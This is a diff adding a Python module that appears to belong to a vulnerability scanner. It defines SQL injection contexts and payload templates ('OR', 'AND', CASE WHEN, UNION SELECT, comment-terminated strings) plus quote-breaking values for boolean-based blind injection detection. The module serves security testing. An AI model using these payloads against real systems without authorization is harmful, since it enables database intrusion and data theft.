@@ -1,0 +1,153 @@
+"""Where in an SQL statement a value may stand, and how a condition is put there.
+
+Each context closes what the statement has open, adds a condition, and opens it again, so that the rest of the
+statement stays as it was written (no comment, which would cut off more than we know). `{v}` is the original
+value, `{n}` a fresh number that stands for a value nobody has, and `{c}` the condition. The forms follow the SQL grammar (ISO/IEC 9075-2, search condition, character
+string literal, sort specification).
+"""
+
+from collections.abc import Callable, Iterator
+
+from msgspec import Struct
+
+from cyberai.checkkit.differential import Hypothesis
+from cyberai.checkkit.payloads import broken_condition, condition
+from cyberai.checkkit.probe import Probe
+
+
+class SqlContext(Struct, frozen=True):
+    """One place in a statement. `needs` tells for which original values it makes sense; `keeps` whether a
+    condition that holds leaves the page as it was (`AND`) or one that fails does (`OR`)."""
+
+    name: str
+    template: str
+    needs: Callable[[str], bool]
+    keeps: bool = True
+
+
+def _any(_: str) -> bool:
+    return True
+
+
+def _number(value: str) -> bool:
+    return value.strip().lstrip("-").replace(".", "", 1).isdecimal()
+
+
+def _text(value: str) -> bool:
+    return bool(value) and not _number(value)
+
+
+def _identifier(value: str) -> bool:
+    return (
+        bool(value)
+        and value.isascii()
+        and value.replace("_", "a").replace(".", "a").isalnum()
+        and not _number(value)
+    )
+
+
+def _direction(value: str) -> bool:
+    return value.lower() in ("asc", "desc")
+
+
+# A final `LIKE` meets both a bare closing quote and a trailing wildcard: 'x' LIKE 'x' and 'x' LIKE 'x%'.
+AND_CONTEXTS = (
+    SqlContext("numeric", "{v} AND {c}", _number),
+    SqlContext("single-quoted string", "{v}' AND {c} AND 'x' LIKE 'x", _any),
+    SqlContext("LIKE pattern", "{v}%' AND {c} AND 'x' LIKE 'x", _any),
+    SqlContext("numeric in parentheses", "{v}) AND {c} AND (1=1", _number),
+    SqlContext("string in parentheses", "{v}') AND {c} AND ('x' LIKE 'x", _any),
+    SqlContext("double-quoted string", '{v}" AND {c} AND "x" LIKE "x', _any),
+    SqlContext("numeric expression", "(CASE WHEN {c} THEN {v} ELSE NULL END)", _number),
+    SqlContext("ORDER BY column", "(CASE WHEN {c} THEN {v} ELSE NULL END)", _identifier),
+    SqlContext(
+        "ORDER BY list", "{v},(SELECT CASE WHEN {c} THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)", _identifier
+    ),
+)
+
+# OR reaches every row, and a comment cuts off conditions (of an UPDATE: all of them). Only where the statement
+# can be trusted to read: a safe method, or a log-in form.
+READING_CONTEXTS = (
+    SqlContext("ORDER BY tail", "{v} LIMIT (CASE WHEN {c} THEN 99999 ELSE 0 END)-- -", _identifier),
+    SqlContext("LIMIT or ORDER BY number", "{v} LIMIT (CASE WHEN {c} THEN 99999 ELSE 0 END)-- -", _number),
+    SqlContext("single-quoted string before a comment", "{v}' AND {c}-- -", _text),
+    SqlContext("string after an escaped quote", "{v}\\' AND {c}-- -", _text),
+    SqlContext("single-quoted string", "{n}' OR {c}-- -", _any, keeps=False),
+    SqlContext("numeric", "-{n} OR {c}", _number, keeps=False),
+    SqlContext("string in parentheses", "{n}') OR {c}-- -", _any, keeps=False),
+    SqlContext("double-quoted string", '{n}" OR {c}-- -', _any, keeps=False),
+)
+
+# Where neither the value nor a broken statement shows a row: what reaches every row, in what a search is made of.
+SEARCH_CONTEXTS = tuple(context for context in READING_CONTEXTS if not context.keeps)
+
+# A refused log-in looks the same whatever was wrong with it; what opens it is a condition that holds.
+LOGIN_CONTEXTS = (
+    SqlContext("single-quoted string, rest cut off", "{v}' AND {c}-- -", _text, keeps=False),
+    *SEARCH_CONTEXTS,
+)
+
+SYNTAX = (
+    "AND OR LIKE x 1 2 CASE WHEN THEN ELSE NULL END LIMIT SELECT UNION BETWEEN BETVEEM 99999 0 - -- and or like "
+    "case when then else null end limit select union between betveem"
+)
+"""Words of the payloads, which are no features of a page."""
+
+
+class Repair(Struct, frozen=True):
+    """One kind of place: a value that is sound there, and its counterpart that is broken there and differs
+    from it by as little as can be."""
+
+    context: str
+    sound: str
+    broken: str
+
+
+class Break(Struct, frozen=True):
+    """A value that ends every kind of literal at once, and a repair for each kind it may have broken."""
+
+    value: str
+    repairs: tuple[Repair, ...]
+
+
+def syntax_break(value: str, fresh: str, number: int) -> Break:
+    """Break every literal: quotes of both kinds, a backslash before the closing quote, a stray parenthesis.
+
+    Each repair differs from its counterpart by doubled characters, or by an operand or a parenthesis that is
+    missing, so a filter, a failed cast or a page that dislikes quotes answers both alike.
+    """
+    broken = f"{value}{fresh})'\"\\"
+    repairs = [
+        Repair("single-quoted string", f"{value}{fresh})''\"\\\\", broken),
+        Repair("double-quoted string", f'{value}{fresh})\'""\\\\', broken),
+    ]
+    if _number(value):
+        repairs.insert(0, Repair("numeric", f"{value}-{number}+{number}", f"{value}-{number}+"))
+    if _identifier(value):
+        repairs.append(Repair("identifier", f"{value},(SELECT {number})", f"{value},(SELECT {number}"))
+    return Break(broken, tuple(repairs))
+
+
+def hypotheses(probe: Probe, value: str, contexts: tuple[SqlContext, ...]) -> Iterator[Hypothesis]:
+    """The hypotheses that make sense for this original value."""
+    for context in contexts:
+        if context.needs(value):
+            yield Hypothesis(
+                context.name,
+                _values(probe, context, value, condition),
+                _values(probe, context, value, broken_condition),
+                context.keeps,
+            )
+
+
+def _values(
+    probe: Probe, context: SqlContext, value: str, make: Callable[[Probe, bool, int], str]
+) -> Callable[[bool, int], str]:
+    def build(holds: bool, round_: int) -> str:
+        return (
+            context.template.replace("{c}", make(probe, holds, round_))
+            .replace("{n}", str(probe.number(10_000_000, 99_999_999)))
+            .replace("{v}", value)
+        )
+
+    return build
